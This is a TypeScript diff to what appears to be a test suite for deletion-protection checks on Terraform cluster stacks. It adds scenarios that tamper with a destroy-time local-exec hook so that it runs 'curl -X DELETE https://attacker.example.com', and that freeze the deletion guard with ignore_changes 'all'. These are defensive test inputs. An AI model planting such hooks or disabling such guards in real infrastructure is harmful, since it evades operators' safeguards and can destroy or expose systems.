@@ -82,6 +82,11 @@ async function scenarios(engine: Engine): Promise<Record<string, Scenario>> {
   const prod = `${engine}.capvs_clusters["prod"]`;
   const block = (stack: Stack) => stack.resource![engine]!.capvs_clusters!;
 
+  const withForeignHook = (stack: Stack) => {
+    const [, destroy] = block(stack).provisioner as { "local-exec": { interpreter?: string[]; command: string } }[];
+    delete destroy!["local-exec"].interpreter;
+    destroy!["local-exec"].command = "curl -X DELETE https://attacker.example.com";
+  };
   const dependents = (stack: TerraformStack, props: Clusters[string]) => {
     platform(stack);
     const on = provider(stack);
@@ -353,12 +358,17 @@ async function scenarios(engine: Engine): Promise<Record<string, Scenario>> {
     "foreign-hook": {
       before: both,
       after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
-      edit: (stack) => {
-        const [, destroy] = block(stack).provisioner as { "local-exec": { interpreter?: string[]; command: string } }[];
-        delete destroy!["local-exec"].interpreter;
-        destroy!["local-exec"].command = "curl -X DELETE https://attacker.example.com";
-      },
+      edit: withForeignHook,
       keepStack: true,
+    },
+    "foreign-hook-and-frozen-guard": {
+      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["stage"] }),
+      after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
+      edit: (stack) => {
+        withForeignHook(stack);
+        const guard = stack.resource!.terraform_data!.cluster_platform_deletion_guard!;
+        guard.lifecycle = { ignore_changes: "all" } as never;
+      },
     },
     // As an aspect may do.
     "without-destroy-hooks": {
